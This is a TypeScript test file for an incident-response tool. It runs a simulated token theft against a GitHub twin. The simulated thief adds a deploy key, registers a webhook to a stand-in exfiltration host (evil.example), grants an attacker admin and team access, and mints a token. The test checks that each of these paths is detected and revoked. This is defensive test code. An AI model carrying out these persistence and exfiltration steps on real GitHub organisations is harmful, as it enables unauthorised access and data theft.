import assert from 'node:assert/strict'
import { test } from 'node:test'

import { githubActions, githubConnector } from '#connectors/github'
import { entityId, type EntityId } from '#model'
import { createPolicy } from '#policy'
import { expose, makePlan } from '#respond'

import { makeToken } from '../../../lab/twins/github/state.ts'
import { inCompany, sshKey } from './company.ts'
import { actionOf } from './cordon.ts'
import { ask, clone } from './thief.ts'

const minuteMs = 60_000

/**
 * A thief has Ada's token and makes every way back in that it allows. Nothing of it is told to Cordon: it reads the audit
 * log and the inventory, and the thief says what still opens.
 */
test('a stolen token: what it made is found and dies, and what lives on is named', () =>
  inCompany(async ({ twin, clock, classic, fine, grace, mallory, engineers, payroll, website }, cordon) => {
    const { url } = twin
    const id = (kind: 'identity' | 'credential' | 'resource', native: string): EntityId =>
      entityId(kind, cordon.authority, native)
    for (const stream of ['organisation', 'repositories', 'audit', 'git']) await cordon.pull(stream)
    clock.pass(60 * minuteMs)
    const stolenAtMs = clock.nowMs()

    const does = async (method: string, path: string, body: Parameters<typeof ask>[3]) => {
      clock.pass(minuteMs)
      const answer = await ask(`${url}${path}`, classic.value, method, body)
      assert.ok(answer.status < 300, `${method} ${path}: ${answer.status}`)
      return Number(answer.body['id'] ?? 0)
    }
    const key = sshKey()
    await does('POST', '/repos/brightwater/payroll/keys', { title: 'build', key, read_only: false })
    const hook = await does('POST', '/repos/brightwater/website/hooks', {
      config: { url: 'https://evil.example/collect?key=EXAMPLE' },
      events: ['push'],
    })
    await does('PUT', '/repos/brightwater/payroll/collaborators/mallory', { permission: 'admin' })
    await does('PUT', '/orgs/brightwater/teams/engineers/memberships/mallory', { role: 'member' })
    assert.equal(await clone(url, 'brightwater/payroll', classic.value), 200)
    const mallorys = makeToken(twin.state, { kind: 'classic', user: mallory.id, scopes: ['repo'] })

    const ways: Record<string, () => boolean | Promise<boolean>> = {
      token: async () => (await clone(url, 'brightwater/payroll', classic.value)) === 200,
      'deploy key': () => twin.ssh(key, payroll, 'push'),
      webhook: () => website.hooks.get(hook)?.active === true,
      "mallory's token": async () => (await clone(url, 'brightwater/payroll', mallorys.value)) === 200,
    }
    const open = async (): Promise<string[]> => {
      const found: string[] = []
      for (const [name, works] of Object.entries(ways)) if (await works()) found.push(name)
      return found
    }
    assert.deepEqual(await open(), Object.keys(ways), 'all ways are open')

    clock.pass(twin.settings.logDelayMs)
    for (const stream of ['audit', 'git', 'organisation', 'repositories']) await cordon.pull(stream)
    assert.ok(!cordon.logged.some(({ raw }) => raw.includes(classic.value) || raw.includes('collect?key')), 'no value')
    const view = cordon.estate.view()
    const token = id('credential', `token/${classic.id}`)
    const window = { fromMs: stolenAtMs, toMs: null }
    const exposure = await expose(view, { kind: 'credential', credential: token }, window, clock.nowMs())
    const made = new Set<EntityId>([
      ...exposure.descendants.map(({ entity }) => entity),
      ...exposure.credentials.map(({ credential }) => credential),
    ])
    const expected = [
      id('resource', `hook/${website.id}/${hook}`),
      id('credential', `collaboration/${payroll.id}/${mallory.id}`),
      id('credential', `teamplace/${engineers.id}/${mallory.id}`),
    ]
    const missed = expected.filter((one) => !made.has(one))
    assert.deepEqual(missed, [], `descendants that were missed; found ${[...made].join('\n')}`)
    assert.ok(
      [...made].some((one) => one.startsWith(id('credential', `deploykey/${payroll.id}/`))),
      'the deploy key',
    )
    assert.ok(
      !exposure.descendants.some(({ entity }) => entity === id('identity', `user/${grace.id}`)),
      'was there before',
    )
    const read = exposure.impact.didTouch.find(({ resource }) => resource === id('resource', `repo/${payroll.id}`))
    assert.ok(read?.verbs.includes('read'), 'the repository it cloned')

    const source = { source: 'github', connector: 'github', authority: cordon.authority }
    const plan = await makePlan({
      tenant: 't_default',
      incident: null,
      severity: 'critical',
      trust: { origin: 'vendor', sources: ['github'], confinedTo: null },
      exposure,
      view,
      sources: [
        { ...source, connectorVersion: githubConnector.version, actions: githubActions, ladder: 'auto' as const },
      ],
      policy: createPolicy(),
      nowMs: clock.nowMs(),
    })
    const revoke = plan.steps.find(({ verb }) => verb === 'github.token.revoke')
    assert.ok(revoke !== undefined && revoke.level !== 0, 'what cannot be undone is asked for')
    for (const { verb, target, connector } of plan.steps) {
      if (connector !== 'github') continue
      await actionOf(verb).apply(cordon.context({ lent: (one) => (one === token ? classic.value : undefined) }), target)
    }
    clock.pass(5_000)
    assert.deepEqual(await open(), [], 'nothing that GitHub can end opens any more')
    assert.equal(await clone(url, 'brightwater/payroll', fine.value), 200, "Ada's other token works on")
    assert.match(JSON.stringify(githubConnector.survives), /clones, forks and downloads/)
  }))
